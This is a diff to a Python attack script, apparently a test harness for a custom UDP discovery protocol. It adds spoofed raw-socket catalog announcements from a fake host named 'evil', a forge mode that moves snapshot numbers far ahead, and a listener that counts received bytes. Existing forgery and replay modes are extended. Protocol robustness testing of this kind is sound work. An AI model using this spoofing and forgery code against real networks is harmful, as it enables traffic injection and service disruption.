@@ -13,6 +13,14 @@ address (raw socket).
         seq-high   sequence (bytes 24..31) set far ahead, N of them, each one higher
         flip       one payload byte flipped (a sealed one then fails its tag)
         plain      the header only, version 1, sequence far ahead (an unsealed forgery)
+        ardc-seq   a catalog announcement's snapshot number (bytes 20..23) 2^30 ahead
+      (--from IP, --to IP: the last recorded one from IP, to IP)
+  attacker.py announce FILE SRC_IP DST_IP KIND NAME SIZE TYPE PORT
+      catalog announcements of its own (plain, version 1, the domain of the recorded ones, a
+      new host id, host name "evil", 5 snapshots 50 ms apart): KIND has or want NAME, sent
+      from SRC_IP to DST_IP:7400
+  attacker.py listen PORT SECONDS
+      count the bytes of the datagrams that arrive on PORT; prints the number
 """
 import socket
 import struct
@@ -76,6 +84,19 @@ def main():
     if a[0] == "capture":
         capture(int(a[1]), float(a[2]), a[3])
         return
+    if a[0] == "listen":
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.bind(("0.0.0.0", int(a[1])))
+        s.settimeout(0.1)
+        end = time.monotonic() + float(a[2])
+        total = 0
+        while time.monotonic() < end:
+            try:
+                total += len(s.recv(70000))
+            except socket.timeout:
+                pass
+        print(total)
+        return
     rows = load(a[1])
     count = int(a[a.index("--count") + 1]) if "--count" in a else len(rows)
     gap = float(a[a.index("--gap-ms") + 1]) / 1000 if "--gap-ms" in a else 0.0
@@ -88,8 +109,27 @@ def main():
             sent += 1
             if gap:
                 time.sleep(gap)
+    elif a[0] == "announce":
+        src_ip, dst, kind, name, size, typ, port = a[2], a[3], a[4], a[5], int(a[6]), a[7], int(a[8])
+        dport, p = 7400, rows[-1][4]
+        host = b"evil"
+        entry = struct.pack("<BBHIBBH", 1 if kind == "has" else 2, 0,
+                            0 if kind == "has" else port, size, len(name), 0, len(typ))
+        entry += name.encode() + typ.encode()
+        hdr = b"ARDC" + struct.pack("<BBHQ", 1, 0, 32, 0x5EED0000 + port) + p[16:20]
+        hdr += struct.pack("<IHHHBB", 1, 0, 1, 1, len(host), 0)
+        for i in range(count if "--count" in a else 5):
+            d = bytearray(hdr + host + entry)
+            d[20:24] = struct.pack("<I", i + 1)
+            send_spoofed(raw, src_ip, 7400, dst, dport, bytes(d))
+            sent += 1
+            time.sleep(0.05)
     elif a[0] == "forge":
         mode = a[2]
+        if "--from" in a:
+            rows = [r for r in rows if r[0] == a[a.index("--from") + 1]]
+        if "--to" in a:
+            rows = [r for r in rows if r[2] == a[a.index("--to") + 1]]
         src, sport, dst, dport, p = rows[-1]
         for i in range(count):
             b = bytearray(p)
@@ -97,6 +137,9 @@ def main():
                 b[24:32] = struct.pack("<Q", (1 << 62) + i)
             elif mode == "flip":
                 b[-20] ^= 0x55
+            elif mode == "ardc-seq":
+                b[20:24] = struct.pack("<I", (struct.unpack("<I", b[20:24])[0] + (1 << 30) + i)
+                                       & 0xFFFFFFFF)
             elif mode == "plain":
                 # a whole version 1 datagram of the same connection and size (zeros)
                 size = struct.unpack("<I", b[12:16])[0]
